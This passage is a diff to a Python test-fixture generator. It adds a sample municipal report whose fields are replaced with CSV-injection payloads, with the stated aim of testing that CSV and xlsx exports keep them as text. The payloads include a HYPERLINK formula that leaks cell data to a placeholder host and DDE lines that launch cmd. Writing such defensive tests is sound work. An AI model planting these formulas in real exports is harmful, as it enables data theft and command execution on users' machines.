@@ -378,7 +378,36 @@ def build() -> dict[str, tuple[bytes, dict]]:
     ascii_text = "Angaben zur Kommune\nName der Stadt oder Gemeinde: Musterstadt\nAnsprechpartner: Herr Beispiel\n"
     add("utf16le_nobom_ascii.txt", ascii_text.encode("utf-16-le"), "ok",
         "ASCII-only text in UTF-16 LE without BOM (also valid UTF-8, full of NULs)", encoding="utf-16-le")
+    add("formula_payloads.txt", _formula_report(text), "ok",
+        "samples/plochingen.txt with spreadsheet formulas (=HYPERLINK, +cmd, -cmd, @SUM) as the municipality, "
+        "district, region, contact and role: exported as text, never as formulas")
     return files
+
+
+# --- hostile content for the outputs (issue 12) ------------------------------------------------------
+
+# Spreadsheet formulas (OWASP's CSV-injection examples) where a report's fields are: each must reach
+# csv and xlsx exports as text, never as a live formula.
+FORMULA_PAYLOADS = {
+    "municipality": '=HYPERLINK("http://example.invalid/?leak="&A1,"Klick")',
+    "district": "+1+cmd|' /C calc'!A0",
+    "region": "-2+3+cmd|' /C calc'!A0",
+    "contact": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "role": "=1+1",
+}
+
+
+def _formula_report(text: str) -> bytes:
+    """samples/plochingen.txt with a formula in every field of the municipality part."""
+    lines = text.split("\n")
+    replace = {"Plochingen -> www.plochingen.de": FORMULA_PAYLOADS["municipality"],
+               "Esslingen": FORMULA_PAYLOADS["district"], "Stuttgart": FORMULA_PAYLOADS["region"],
+               "Felix Unseld": FORMULA_PAYLOADS["contact"], "Kommunaler Flüchtlingskoordinator": FORMULA_PAYLOADS["role"]}
+    for i, line in enumerate(lines):
+        if line.strip() in replace:
+            lines[i] = replace.pop(line.strip())
+    assert not replace, replace
+    return "\n".join(lines).encode("utf-8")
 
 
 def codecs_bom(encoding: str) -> bytes:
